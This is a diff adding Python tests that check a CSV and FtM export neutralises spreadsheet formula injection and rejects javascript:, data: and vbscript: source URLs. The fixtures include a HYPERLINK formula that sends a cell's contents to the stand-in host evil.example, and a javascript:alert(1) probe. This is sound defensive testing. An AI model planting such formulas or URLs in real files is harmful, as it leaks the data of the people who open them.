@@ -198,6 +198,19 @@ def test_csv_row_has_every_column() -> None:
     assert row["first_sentence"] == "A will meet B on Saturday."
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
+    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    event = make_event(summary=formula, actors=[ref("en_a", formula)])
+    event["reports"][0].update(outlet=formula, sentence=formula)
+    row = csvfile.row(event)
+    for column in ("summary", "actors", "first_outlet", "first_sentence"):
+        assert not row[column].startswith(csvfile.FORMULA_STARTS), column
+        assert row[column].removeprefix("'").strip() == formula.strip(), column
+    assert row["summary"] == "'" + formula  # OWASP: a leading single quote
+    assert row["confidence"] == 0.8 and row["sources"] == 1  # numbers stay numbers
+
+
 def test_ftm_ids_are_valid_ftm_entity_ids() -> None:
     assert ftm.ftm_id("en_ff40cbe75e4d1c47") == "en-ff40cbe75e4d1c47"
 
@@ -222,6 +235,17 @@ def test_ftm_event_links_actors_and_cites_reports() -> None:
     assert props["date"] == ["2025-04-05"] and props["country"] == ["ch"]
     assert props["sourceUrl"] == ["https://x.example/a"] and props["proof"] == ["ar-1"]
     assert props["recordId"] == ["ev_1"]
+
+
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "vbscript:x", "x"]
+)
+def test_ftm_source_urls_are_web_addresses_only(url: str) -> None:
+    record = {"id": "ar_1", "title": "T", "outlet": "Daily", "url": url, "authors": []}
+    assert "sourceUrl" not in ftm.article(record)["properties"]
+    assert "sourceUrl" not in ftm.event(make_event(), {"ar_1": url}, COUNTRIES)["properties"]
+    fine = {**record, "url": "https://x.example/a"}
+    assert ftm.article(fine)["properties"]["sourceUrl"] == ["https://x.example/a"]
 
 
 # -- countries ---------------------------------------------------------------------------------
